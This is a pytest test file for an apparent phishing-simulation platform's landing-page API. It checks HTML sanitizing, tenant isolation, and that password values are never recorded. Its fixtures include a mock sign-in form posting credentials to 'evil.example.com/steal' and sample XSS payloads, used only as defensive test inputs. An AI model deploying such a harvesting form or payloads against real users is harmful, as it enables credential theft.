"""Landing pages: sanitized HTML, submission recording that never keeps passwords."""

from __future__ import annotations

import uuid

import pytest
from sqlalchemy import func, select

from models.landing_page import LandingPage
from services.landing_pages import recordable_submission

URL = "/api/v1/phishing/landing-pages"
PAGE = (
    '<h1>Sign in</h1><form action="https://evil.example.com/steal" method="post" onsubmit="x()">'
    '<input name="email" placeholder="Email"><input type="password" name="password">'
    "<button>Sign in</button></form>"
)


async def count(session) -> int:
    return await session.scalar(select(func.count()).select_from(LandingPage)) or 0


class TestSanitizing:
    async def test_forms_stay_scripts_and_handlers_go(self, client, tenant):
        html = PAGE + '<script>fetch("/api/v1/users")</script><img src="x.png" onerror="alert(1)">'
        html += (
            '<a href="javascript:alert(1)">help</a><iframe src="https://x.example.com"></iframe>'
        )
        r = await client.post(
            URL, json={"name": "O365", "html": html}, headers=tenant.admin_headers
        )
        assert r.status_code == 201, r.text
        stored = r.json()["html"]
        assert '<input type="password" name="password">' in stored
        assert "<form" in stored
        for bad in ("<script", "onerror", "onsubmit", "javascript:", "<iframe", "evil.example.com"):
            assert bad not in stored, bad

    async def test_a_page_that_is_only_script_is_refused(self, client, session, tenant):
        r = await client.post(
            URL,
            json={"name": "x", "html": "<script>alert(1)</script>"},
            headers=tenant.admin_headers,
        )
        assert r.status_code == 422
        assert r.json()["error"]["code"] == "landing_page_empty"
        assert await count(session) == 0

    @pytest.mark.parametrize(
        "change",
        [{"redirect_url": "javascript:alert(1)"}, {"redirect_url": "ftp://x"}, {"name": ""}],
    )
    async def test_bad_fields_are_422(self, client, session, tenant, change):
        r = await client.post(
            URL, json={"name": "p", "html": PAGE, **change}, headers=tenant.admin_headers
        )
        assert r.status_code == 422
        assert await count(session) == 0

    async def test_update_sanitizes_again(self, client, tenant):
        pid = (
            await client.post(URL, json={"name": "p", "html": PAGE}, headers=tenant.admin_headers)
        ).json()["id"]
        r = await client.patch(
            f"{URL}/{pid}",
            json={"html": "<p onclick='x()'>Hello</p>"},
            headers=tenant.admin_headers,
        )
        assert r.json()["html"] == "<p>Hello</p>"


class TestWhatASubmissionKeeps:
    def _page(self, **fields) -> LandingPage:
        return LandingPage(name="p", html="<p>x</p>", **fields)

    def test_field_names_only_by_default(self):
        page = self._page(capture_submissions=True, capture_values=False)
        kept = recordable_submission(
            page, {"email": "a@b.example.com", "password": "hunter2"}, {"password"}
        )
        assert kept == {"fields": ["email", "password"]}

    def test_values_when_enabled_but_never_passwords(self):
        page = self._page(capture_submissions=True, capture_values=True)
        form = {"email": "a@b.example.com", "pwd": "s3cret", "passcode": "1234"}
        kept = recordable_submission(page, form, {"pwd"})
        assert kept["values"] == {"email": "a@b.example.com"}
        assert "s3cret" not in str(kept)
        assert "1234" not in str(kept)

    def test_nothing_when_capture_is_off(self):
        page = self._page(capture_submissions=False, capture_values=True)
        assert recordable_submission(page, {"email": "x"}, set()) == {}


class TestAccess:
    async def test_other_company_gets_404_everywhere(self, client, tenant, other_tenant):
        pid = (
            await client.post(URL, json={"name": "p", "html": PAGE}, headers=tenant.admin_headers)
        ).json()["id"]
        h = other_tenant.admin_headers
        assert (await client.get(f"{URL}/{pid}", headers=h)).status_code == 404
        assert (
            await client.patch(f"{URL}/{pid}", json={"name": "x"}, headers=h)
        ).status_code == 404
        assert (await client.delete(f"{URL}/{pid}", headers=h)).status_code == 404
        assert (await client.get(URL, headers=h)).json()["items"] == []
        assert (
            await client.get(f"{URL}/{uuid.uuid4()}", headers=tenant.admin_headers)
        ).status_code == 404

    async def test_learner_is_refused(self, client, tenant):
        assert (await client.get(URL, headers=tenant.learner_headers)).status_code == 403
